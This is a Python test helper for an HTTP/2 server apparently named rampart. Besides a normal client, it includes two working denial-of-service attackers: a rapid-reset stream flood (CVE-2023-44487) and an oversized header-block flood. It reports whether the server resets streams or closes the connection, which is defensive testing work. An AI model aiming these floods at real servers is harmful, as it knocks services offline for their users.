"""HTTP/2 clients for rampart's tests: a well-behaved one (httpx) and two attackers (the
`h2` library on a raw TLS socket).

Usage:
  h2_client.py get URL N [HEADER=VALUE ...]
      N GETs over one HTTP/2 connection; prints a JSON list of {status, version, body}.
  h2_client.py rapid-reset HOST PORT PATH COUNT [HEADER=VALUE ...]
      Opens COUNT streams, resetting each at once (CVE-2023-44487), as fast as it can;
      prints {streams_sent, goaway (error code or null), closed}.
  h2_client.py header-flood HOST PORT PATH BYTES [HEADER=VALUE ...]
      One request whose header block is BYTES long; prints {status or reset code}.
Certificates are not verified: the tests use a throwaway one.
"""
import json
import socket
import ssl
import sys
import time

import h2.config
import h2.connection
import h2.events
import h2.exceptions
import httpx


def headers_from(args):
    return [tuple(a.split("=", 1)) for a in args]


def get(url, n, extra):
    out = []
    with httpx.Client(http2=True, verify=False, timeout=10) as client:
        for _ in range(n):
            r = client.get(url, headers=dict(extra))
            out.append({"status": r.status_code, "version": r.http_version, "body": r.text})
    print(json.dumps(out))


def connect(host, port):
    ctx = ssl.create_default_context()
    ctx.check_hostname = False
    ctx.verify_mode = ssl.CERT_NONE
    ctx.set_alpn_protocols(["h2"])
    sock = ctx.wrap_socket(socket.create_connection((host, port), timeout=10), server_hostname="rampart.test")
    assert sock.selected_alpn_protocol() == "h2", sock.selected_alpn_protocol()
    conn = h2.connection.H2Connection(config=h2.config.H2Configuration(client_side=True, header_encoding="utf-8"))
    conn.initiate_connection()
    sock.sendall(conn.data_to_send())
    return sock, conn


def request_headers(host, port, path, extra):
    return [(":method", "GET"), (":scheme", "https"), (":authority", f"rampart.test:{port}"),
            (":path", path), ("user-agent", "h2-tests/1.0")] + extra


def read_events(sock, conn, until):
    """Frames until the connection closes or `until` (a monotonic time); the events."""
    events = []
    sock.settimeout(0.2)
    while time.monotonic() < until:
        try:
            data = sock.recv(65536)
        except socket.timeout:
            continue
        except (ConnectionError, ssl.SSLError, OSError):
            events.append("closed")
            break
        if not data:
            events.append("closed")
            break
        try:
            events.extend(conn.receive_data(data))
        except h2.exceptions.ProtocolError:
            events.append("closed")
            break
        pending = conn.data_to_send()
        if pending:
            try:
                sock.sendall(pending)
            except OSError:
                events.append("closed")
                break
    return events


def rapid_reset(host, port, path, count, extra):
    sock, conn = connect(host, port)
    sent = 0
    goaway = None
    closed = False
    try:
        for i in range(count):
            stream = conn.get_next_available_stream_id()
            conn.send_headers(stream, request_headers(host, port, path, extra), end_stream=True)
            conn.reset_stream(stream)
            sock.sendall(conn.data_to_send())
            sent += 1
    except (OSError, ssl.SSLError, h2.exceptions.ProtocolError):
        closed = True
    for e in read_events(sock, conn, time.monotonic() + 3):
        if isinstance(e, h2.events.ConnectionTerminated):
            goaway = int(e.error_code)
        if e == "closed":
            closed = True
    print(json.dumps({"streams_sent": sent, "goaway": goaway, "closed": closed}))


def header_flood(host, port, path, size, extra):
    sock, conn = connect(host, port)
    filler = [(f"x-filler-{i}", "a" * 1000) for i in range(size // 1024 + 1)]
    stream = conn.get_next_available_stream_id()
    result = {"status": None, "reset": None, "closed": False}
    try:
        conn.send_headers(stream, request_headers(host, port, path, extra) + filler, end_stream=True)
        sock.sendall(conn.data_to_send())
    except (OSError, ssl.SSLError):
        result["closed"] = True
    for e in read_events(sock, conn, time.monotonic() + 5):
        if isinstance(e, h2.events.ResponseReceived):
            result["status"] = int(dict(e.headers)[":status"])
            break
        if isinstance(e, h2.events.StreamReset):
            result["reset"] = int(e.error_code)
            break
        if isinstance(e, h2.events.ConnectionTerminated) or e == "closed":
            result["closed"] = True
            break
    print(json.dumps(result))


mode = sys.argv[1]
if mode == "get":
    get(sys.argv[2], int(sys.argv[3]), headers_from(sys.argv[4:]))
elif mode == "rapid-reset":
    rapid_reset(sys.argv[2], int(sys.argv[3]), sys.argv[4], int(sys.argv[5]), headers_from(sys.argv[6:]))
elif mode == "header-flood":
    header_flood(sys.argv[2], int(sys.argv[3]), sys.argv[4], int(sys.argv[5]), headers_from(sys.argv[6:]))
